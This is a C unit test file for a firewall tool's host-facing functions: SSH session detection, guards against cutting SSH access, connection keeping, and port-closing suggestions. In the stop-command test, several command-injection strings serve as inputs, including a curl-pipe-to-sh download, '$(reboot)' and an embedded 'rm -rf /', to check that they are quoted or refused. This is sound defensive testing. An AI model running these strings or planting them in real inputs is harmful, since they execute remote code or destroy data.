/*
 * test_fw_host.c - the firewall module where it meets the host, without a
 * ruleset: the SSH session from $SSH_CONNECTION and from the socket table
 * (a real loopback connection owned by an sshd in a planted /proc), the
 * guard that keeps it alive, the connections allow-only keeps (from the
 * socket table in a namespace of the test's own), suggestions from
 * synthetic audit findings, the guard by sshd's listeners when no session
 * is found, and the stop command printed after close.  The session (apply,
 * undo, state directory) is in test_fw_session.c.
 */
#include <sched.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "portier/audit.h"
#include "portier/local.h"
#include "fw_test_util.h"
#include "sock_test_util.h"

/* ---- the SSH guard ---------------------------------------------------------------- */

static void test_ssh_from_env(void **state)
{
	struct portier_fw_conn c;

	(void)state;
	assert_int_equal(
		portier_fw_ssh_from_env("198.51.100.9 51234 192.0.2.1 22", &c),
		0);
	assert_int_equal(c.lport, 22);
	assert_int_equal(c.rport, 51234);
	assert_int_equal(c.peer.family, 4);
	assert_memory_equal(c.peer.b, "\xc6\x33\x64\x09", 4);
	assert_int_equal(portier_fw_ssh_from_env(
				 "2001:db8::9 40000 2001:db8::1 2222", &c),
			 0);
	assert_int_equal(c.lport, 2222);
	assert_int_equal(c.peer.family, 6);
	/* an IPv4 client seen through a dual-stack socket */
	assert_int_equal(
		portier_fw_ssh_from_env(
			"::ffff:192.0.2.9 40000 ::ffff:192.0.2.1 22", &c),
		0);
	assert_int_equal(c.peer.family, 4);
	assert_memory_equal(c.peer.b, "\xc0\x00\x02\x09", 4);
	assert_int_equal(portier_fw_ssh_from_env(NULL, &c), PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_env("", &c), PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_env("garbage", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("192.0.2.9 1 b 70000", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("host 1 b 22", &c),
			 PORTIER_EINVAL);
	assert_int_equal(portier_fw_ssh_from_env("192.0.2.9 1 b 22 x", &c),
			 PORTIER_EINVAL);
}

static void test_ssh_from_proc(void **state)
{
	char root[] = "/tmp/portier-fw-proc.XXXXXX";
	struct portier_fw_conn c;
	struct test_conn tc;

	(void)state;
	assert_non_null(mkdtemp(root));
	/* a real connection; the planted sshd owns its server end, which a
	 * dual-stack socket holds (the table gives its peer as IPv4) */
	assert_true(test_conn_open(&tc, SOCK_STREAM, "::ffff:127.0.0.1",
				   "127.0.0.1"));
	/* 300 (portier) <- 200 (bash) <- 100 (sshd) */
	test_plant_proc(root, 100, "sshd", 1, 3, tc.sino);
	test_plant_proc(root, 200, "bash", 100, 0, 0);
	test_plant_proc(root, 300, "portier", 200, 0, 0);
	/* 400 (a cron job) holds the client end, with no sshd above it */
	test_plant_proc(root, 400, "sh (cron) x", 1, 3, tc.cino);
	assert_int_equal(portier_fw_ssh_from_proc(root, 300, &c, NULL), 0);
	assert_int_equal(c.lport, tc.sport);
	assert_int_equal(c.rport, tc.cport);
	assert_int_equal(c.peer.family, 4);
	assert_memory_equal(c.peer.b, "\x7f\x00\x00\x01", 4);
	assert_int_equal(portier_fw_ssh_from_proc(root, 400, &c, NULL),
			 PORTIER_ENOENT);
	assert_int_equal(portier_fw_ssh_from_proc(root, 999, &c, NULL),
			 PORTIER_ENOENT);
	/* the session closed: sshd owns no established connection */
	test_conn_close(&tc);
	assert_int_equal(portier_fw_ssh_from_proc(root, 300, &c, NULL),
			 PORTIER_ENOENT);
	test_unplant(root);
}

static void test_ssh_guard(void **state)
{
	struct portier_fw_policy p = {0};
	struct portier_fw_spec spec;
	struct portier_fw_source src;
	struct portier_fw_conn sess;
	struct portier_err err = {0};
	int rc;

	(void)state;
	assert_int_equal(
		portier_fw_ssh_from_env("10.1.2.3 50000 10.0.0.1 22", &sess),
		0);
	/* not allow-only: nothing to add */
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	assert_int_equal(p.allow[PORTIER_FW_TCP].n, 0);
	spec_of("80,443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 1);
	assert_string_equal(fmt(&p.allow[PORTIER_FW_TCP]), "22,80,443");
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	/* closing 22 from a prefix that does not hold the client is fine */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_source_parse("10.2.0.0/16", &src, NULL), 0);
	assert_int_equal(portier_fw_policy_close(&p, &spec, &src, NULL), 0);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, NULL), 0);
	/* from one that does, it is refused */
	assert_int_equal(portier_fw_source_parse("10.1.0.0/22", &src, NULL), 0);
	assert_int_equal(portier_fw_policy_close(&p, &spec, &src, NULL), 0);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, &err), PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "tcp/22 from 10.1.0.0/22"));
	portier_fw_policy_free(&p);
	/* and from anywhere too */
	assert_int_equal(portier_fw_policy_close(&p, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_ssh(&p, &sess, &err), PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "closing tcp/22 would cut the SSH"));
	assert_non_null(strstr(err.hint, "--i-know-ssh-is-closed"));
	portier_fw_policy_free(&p);

	/*
	 * Out of memory while adding the session's port is ENOMEM (the CLI
	 * maps it to exit 3 through cli_report), never the EINVAL of a policy
	 * that would cut the session (exit 2).
	 */
	p.allow_only = true; /* nothing allowed yet: adding 22 allocates */
	portier_alloc_fail_after(0);
	rc = portier_fw_guard_ssh(&p, &sess, &err);
	portier_alloc_fail_after(-1);
	assert_int_equal(rc, PORTIER_ENOMEM);
	assert_non_null(strstr(err.msg, "out of memory"));
	portier_fw_policy_free(&p);
}

/* ---- connections established before allow-only ------------------------------------ */

static struct portier_fw_conn conn(const char *peer, uint16_t rport,
				   uint16_t lport)
{
	struct portier_fw_conn c;

	memset(&c, 0, sizeof(c));
	assert_int_equal(portier_addr_parse(peer, &c.peer), 0);
	c.rport = rport;
	c.lport = lport;
	return c;
}

/* What portier_fw_conns_read gives for a host with these connections. */
static void test_conns_and_keep(void **state)
{
	struct portier_fw_conn c[3];
	struct portier_fw_policy p = {0}, back;
	struct portier_fw_spec spec;
	char *json;
	size_t n = 3;

	(void)state;
	/* 192.168.0.9:54321 -> :80; 192.168.1.10:49153 -> :8080 (an IPv4
	 * peer of a dual-stack socket), 1234::2:40961 -> :22 */
	c[0] = conn("192.168.0.9", 54321, 80);
	c[1] = conn("192.168.1.10", 49153, 8080);
	c[2] = conn("1234::2", 40961, 22);
	/* allow-only 22: the connections to 80 and 8080 are kept */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 2);
	/* allow-only 443: all three, IPv4 and IPv6 */
	spec_of("443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&p, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 3);
	check_golden(&p, "render.allow-only-keep.nft");
	/* read back from what nftables listed for that script */
	json = slurp(fixture("listing-keep.json"));
	assert_non_null(json);
	assert_int_equal(portier_fw_policy_from_json(json, &back, NULL), 0);
	assert_true(portier_fw_policy_equal(&p, &back));
	free(json);
	portier_fw_policy_free(&back);
	/* a closed port's connection is not kept; nothing without allow-only */
	spec_of("80/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&p, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 2);
	assert_int_equal(p.keep[0].lport, 8080);
	assert_int_equal(p.keep[1].lport, 22);
	p.allow_only = false;
	assert_int_equal(portier_fw_policy_keep(&p, c, n, NULL), 0);
	assert_int_equal(p.n_keep, 0);
	portier_fw_policy_free(&p);
}

static bool has_conn(const struct portier_fw_conn *c, size_t n,
		     const char *peer, uint16_t rport, uint16_t lport)
{
	struct portier_fw_conn k = conn(peer, rport, lport);
	size_t i;

	for (i = 0; i < n; i++)
		if (portier_addr_cmp(&c[i].peer, &k.peer) == 0 &&
		    c[i].rport == rport && c[i].lport == lport)
			return true;
	return false;
}

/*
 * The connections from the socket table, in a network namespace of the
 * test's own (root only) where lo also carries 192.0.2.1/32: a connection
 * over that address is one from another host as far as the check knows,
 * one over 127.0.0.1 is loopback and left out.
 */
static void test_conns_read(void **state)
{
	struct portier_fw_conn *c = NULL;
	struct test_conn other, lo;
	size_t n = 0;

	(void)state;
	if (geteuid() != 0 || unshare(CLONE_NEWNET) < 0)
		skip();
	assert_int_equal(system("ip link set lo up && "
				"ip addr add 192.0.2.1/32 dev lo"),
			 0);
	assert_true(
		test_conn_open(&other, SOCK_STREAM, "192.0.2.1", "192.0.2.1"));
	assert_true(test_conn_open(&lo, SOCK_STREAM, "127.0.0.1", "127.0.0.1"));
	assert_int_equal(portier_fw_conns_read(NULL, &c, &n, NULL), 0);
	/* both ends of the one connection, not the loopback one or the
	 * listeners */
	assert_int_equal(n, 2);
	assert_true(has_conn(c, n, "192.0.2.1", other.cport, other.sport));
	assert_true(has_conn(c, n, "192.0.2.1", other.sport, other.cport));
	portier_free(c);
	test_conn_close(&other);
	test_conn_close(&lo);
	assert_int_equal(portier_fw_conns_read("/nonexistent", &c, &n, NULL),
			 0);
	assert_int_equal(n, 0);
	portier_free(c);
}

/* ---- suggest: audit findings -> ports to close ---------------------------------------- */

static struct portier_sock mk_sock(unsigned proto, unsigned state,
				   const char *laddr, uint16_t lport,
				   const char *raddr, uint16_t rport)
{
	struct portier_sock s;

	memset(&s, 0, sizeof(s));
	s.proto = (uint8_t)proto;
	s.state = (uint8_t)state;
	s.family = strchr(laddr, ':') ? AF_INET6 : AF_INET;
	assert_int_equal(inet_pton(s.family, laddr, s.laddr), 1);
	assert_int_equal(inet_pton(s.family, raddr, s.raddr), 1);
	s.lport = lport;
	s.rport = rport;
	return s;
}

static struct portier_finding mk_finding(unsigned rule, unsigned sev,
					 unsigned proto, uint16_t port)
{
	struct portier_finding f;

	memset(&f, 0, sizeof(f));
	f.rule = (uint8_t)rule;
	f.severity = (uint8_t)sev;
	f.proto = (uint8_t)proto;
	f.port = port;
	f.proc = -1;
	return f;
}

static void test_suggest(void **state)
{
	const unsigned T = PORTIER_LOCAL_TCP, U = PORTIER_LOCAL_UDP;
	struct portier_sock socks[] = {
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 445, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "127.0.0.1", 631, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 3389, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_ESTABLISHED, "192.0.2.1", 3389,
			"198.51.100.7", 50000),
		mk_sock(T, PORTIER_SS_LISTEN, "::", 23, "::", 0),
		mk_sock(T, PORTIER_SS_ESTABLISHED, "::1", 23, "::1", 40000),
		mk_sock(U, PORTIER_SS_CLOSE, "0.0.0.0", 137, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 22, "0.0.0.0", 0),
	};
	struct portier_finding f[] = {
		mk_finding(PORTIER_AUDIT_WINDOWS_SHARING, PORTIER_RISK_HIGH, T,
			   445),
		mk_finding(PORTIER_AUDIT_NAME_MISMATCH, PORTIER_RISK_MEDIUM, T,
			   445),
		mk_finding(PORTIER_AUDIT_LOCAL_ONLY, PORTIER_RISK_MEDIUM, T,
			   631),
		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_HIGH, T,
			   3389),
		mk_finding(PORTIER_AUDIT_LEGACY_SERVICE, PORTIER_RISK_HIGH, T,
			   23),
		mk_finding(PORTIER_AUDIT_WINDOWS_SHARING, PORTIER_RISK_HIGH, U,
			   137),
		mk_finding(PORTIER_AUDIT_RISKY_PORT, PORTIER_RISK_MEDIUM, T,
			   22),
		mk_finding(PORTIER_AUDIT_TROJAN_REMOTE, PORTIER_RISK_HIGH, T,
			   6667),
		mk_finding(PORTIER_AUDIT_UNKNOWN_PORT, PORTIER_RISK_LOW, T,
			   8080),
		mk_finding(PORTIER_AUDIT_CLOSE_WAIT, PORTIER_RISK_MEDIUM, 0, 0),
	};
	struct portier_local l;
	struct portier_fw_suggestion *sg;
	struct portier_fw_policy cur = {0};
	struct portier_fw_spec spec;
	size_t n;

	(void)state;
	memset(&l, 0, sizeof(l));
	l.socks = socks;
	l.n_socks = sizeof(socks) / sizeof(socks[0]);
	assert_int_equal(portier_fw_suggest(&l, f, sizeof(f) / sizeof(f[0]),
					    NULL, 22, PORTIER_RISK_MEDIUM, &sg,
					    &n, NULL),
			 0);
	assert_int_equal(n, 5);
	/* 22: the SSH session's; 23: loopback peers do not count as use */
	assert_int_equal(sg[0].port, 22);
	assert_false(sg[0].close);
	assert_non_null(strstr(sg[0].why_not, "SSH"));
	assert_int_equal(sg[1].port, 23);
	assert_true(sg[1].close);
	assert_int_equal(sg[2].port, 137);
	assert_int_equal(sg[2].proto, PORTIER_FW_UDP);
	assert_true(sg[2].close);
	/* 445: two findings, one entry with the worse one */
	assert_int_equal(sg[3].port, 445);
	assert_true(sg[3].close);
	assert_int_equal(sg[3].severity, PORTIER_RISK_HIGH);
	assert_ptr_equal(sg[3].finding, &f[0]);
	/* 3389: someone is connected; listed, not suggested */
	assert_int_equal(sg[4].port, 3389);
	assert_false(sg[4].close);
	assert_int_equal(sg[4].in_use, 1);
	portier_free(sg);

	/* what portier closes already is not suggested again */
	spec_of("445/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&cur, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_suggest(&l, f, sizeof(f) / sizeof(f[0]),
					    &cur, 0, PORTIER_RISK_HIGH, &sg, &n,
					    NULL),
			 0);
	assert_int_equal(n, 4); /* 22 is medium: below the threshold now */
	assert_int_equal(sg[2].port, 445);
	assert_false(sg[2].close);
	assert_string_equal(sg[2].why_not, "closed already");
	portier_free(sg);
	portier_fw_policy_free(&cur);

	/* no findings: nothing, and no error */
	assert_int_equal(portier_fw_suggest(&l, NULL, 0, NULL, 0,
					    PORTIER_RISK_MEDIUM, &sg, &n, NULL),
			 0);
	assert_int_equal(n, 0);
	portier_free(sg);
}

/*
 * The stop command printed after close is copied into a root shell: names
 * from a (possibly delegated) cgroup path must not inject commands.
 */
static void test_stop_command(void **state)
{
	struct portier_proc p = {.pid = 812};
	char buf[600];

	(void)state;
	portier_fw_stop_command(NULL, buf, sizeof(buf));
	assert_string_equal(buf, "find the owner with 'sudo portier local -l'");
	p.unit = "smbd.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now smbd.service");
	p.unit = "getty@tty1.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now getty@tty1.service");
	p.unit = "run-u7\\x2dx.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf,
			    "systemctl disable --now run-u7\\x2dx.service");
	/* a delegated cgroup's chosen name: quoted, one word, no command */
	p.unit = "x;curl http://e/x|sh #.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now "
				 "'x;curl http://e/x|sh #.service'");
	p.unit = "a'$(reboot)'.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "systemctl disable --now "
				 "'a'\\''$(reboot)'\\''.service'");
	/* control characters (terminal escapes, newlines): no command */
	p.unit = "x\nrm -rf /\n.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
	p.unit = "x\033[2J.service";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
	/* a command that would not fit whole is not printed cut */
	p.unit = "x;y.service";
	portier_fw_stop_command(&p, buf, 30);
	assert_string_equal(buf, "kill 812 (and remove what sta");
	/* containers alike */
	p.unit = NULL;
	p.container = "docker:0123456789ab";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "docker stop 0123456789ab");
	p.container = "podman:a b;id";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "podman stop 'a b;id'");
	p.container = "lxc:c1";
	portier_fw_stop_command(&p, buf, sizeof(buf));
	assert_string_equal(buf, "kill 812 (and remove what starts it)");
}

/*
 * No session found (sudo in tmux): the guard falls back on the listeners
 * and refuses a change that newly drops a port sshd listens on.
 */
static void test_sshd_guard(void **state)
{
	const unsigned T = PORTIER_LOCAL_TCP;
	struct portier_sock socks[] = {
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 22, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "::", 22, "::", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 80, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "127.0.0.1", 2222, "0.0.0.0", 0),
		mk_sock(T, PORTIER_SS_LISTEN, "0.0.0.0", 2200, "0.0.0.0", 0),
	};
	struct portier_owner owners[] = {
		{.proc = 0, .fd = 3}, {.proc = 0, .fd = 4},
		{.proc = 1, .fd = 5}, {.proc = 0, .fd = 6},
		{.proc = 2, .fd = 3},
	};
	struct portier_proc procs[] = {
		{.pid = 700, .comm = "sshd"},
		{.pid = 800, .comm = "nginx"},
		{.pid = 900, .comm = "sshd-session"},
	};
	struct portier_fw_policy before = {0}, after = {0};
	struct portier_fw_spec spec;
	struct portier_err err = {0};
	struct portier_local l;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(socks) / sizeof(socks[0]); i++) {
		socks[i].owner_first = (uint32_t)i;
		socks[i].owner_count = 1;
	}
	memset(&l, 0, sizeof(l));
	l.socks = socks;
	l.n_socks = sizeof(socks) / sizeof(socks[0]);
	l.owners = owners;
	l.n_owners = sizeof(owners) / sizeof(owners[0]);
	l.procs = procs;
	l.n_procs = sizeof(procs) / sizeof(procs[0]);

	/* allow-only 80,443: sshd's 22 would be dropped */
	spec_of("80,443/tcp", &spec);
	assert_int_equal(portier_fw_policy_allow_only(&after, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "sshd (pid 700) listens on tcp/22"));
	assert_non_null(strstr(err.hint, "add 22/tcp to the allowed ports"));
	assert_non_null(strstr(err.hint, "--i-know-ssh-is-closed"));
	/* with 22 (and sshd-session's 2200) allowed: fine */
	spec_of("22,2200/tcp", &spec);
	assert_int_equal(portier_fw_policy_open(&after, &spec, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
	portier_fw_policy_free(&after);

	/* close 22: refused; close 80 (nginx) or 2222 (loopback only): fine */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	memset(&err, 0, sizeof(err));
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.hint, "leave 22 out of the list"));
	/* ... unless the rules in place drop it already (closed on purpose) */
	spec_of("22/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&before, &spec, NULL, NULL),
			 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(&before, &after, &l, NULL), 0);
	portier_fw_policy_free(&before);
	portier_fw_policy_free(&after);
	spec_of("80,2222/tcp,22/udp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
	/* sshd-session counts as sshd too */
	spec_of("2200/tcp", &spec);
	assert_int_equal(portier_fw_policy_close(&after, &spec, NULL, NULL), 0);
	portier_fw_spec_free(&spec);
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, &err),
			 PORTIER_EINVAL);
	assert_non_null(strstr(err.msg, "sshd-session (pid 900) listens on "
					"tcp/2200"));
	portier_fw_policy_free(&after);
	/* owners unknown (not root): nothing to go on, nothing refused */
	for (i = 0; i < l.n_socks; i++)
		socks[i].owner_count = 0;
	after.allow_only = true;
	assert_int_equal(portier_fw_guard_sshd(NULL, &after, &l, NULL), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssh_from_env),
		cmocka_unit_test(test_ssh_from_proc),
		cmocka_unit_test(test_ssh_guard),
		cmocka_unit_test(test_conns_and_keep),
		cmocka_unit_test(test_suggest),
		cmocka_unit_test(test_stop_command),
		cmocka_unit_test(test_sshd_guard),
		/* last: it leaves the process in a namespace of its own */
		cmocka_unit_test(test_conns_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
